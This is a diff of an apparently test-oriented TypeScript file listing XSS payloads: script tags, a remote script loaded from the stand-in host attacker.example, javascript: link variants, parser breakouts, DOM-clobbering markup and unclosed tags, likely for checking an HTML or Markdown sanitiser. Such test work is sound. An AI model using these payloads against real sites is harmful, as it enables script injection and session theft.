@@ -1,12 +1,9 @@
-/** A template that attacks whoever looks at it, in every field, in every way that is known. */
-
-/** Nothing may be asked of it. */
 export const ATTACKER = 'attacker.example';
 
 const RUN = 'window.pwned=1';
 const FROM = `https://${ATTACKER}`;
 
-/** Each ends before the next empty line, whatever a reader of Markdown takes it for. */
+/** Each ends before the next empty line. */
 const CLOSED: readonly string[] = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=${FROM}/x.js></SCRIPT>`,
@@ -61,7 +58,6 @@ const CLOSED: readonly string[] = [
   `<!-- --!><script>${RUN}</script> -->`,
   `<![CDATA[<script>${RUN}</script>]]>`,
   `<?php <script>${RUN}</script> ?>`,
-  // Links and pictures of Markdown itself.
   `[x](javascript:${RUN})`,
   `[x](JaVaScRiPt:${RUN})`,
   `[x]( javascript:${RUN})`,
@@ -104,13 +100,13 @@ const CLOSED: readonly string[] = [
   `</textarea></title></style></noscript></template></script><script>${RUN}</script>`,
   `\u0000<script\u0000>${RUN}</script>`,
   `&lt;script&gt;${RUN}&lt;/script&gt;`,
-  // Names that a script of the page might take for its own.
+  // Could clobber globals.
   `# __NEXT_DATA__\n\n# location\n\n# document\n\n# body\n\n# main\n\n# __next\n\n# filters\n\n# results`,
   `<form id=__NEXT_DATA__ name=location><input name=innerHTML></form><a id=__next name=body href=${FROM}>x</a>`,
   `<img name=getElementById><img name=currentScript><a id=config><a id=config name=url href=${FROM}>x</a>`,
 ];
 
-/** These would take all that follows with them; what they stand in ends them. */
+/** Could swallow what follows. */
 const UNCLOSED: readonly string[] = [
   `<script>${RUN}//`,
   `<!-- <img src=x onerror=${RUN}>`,
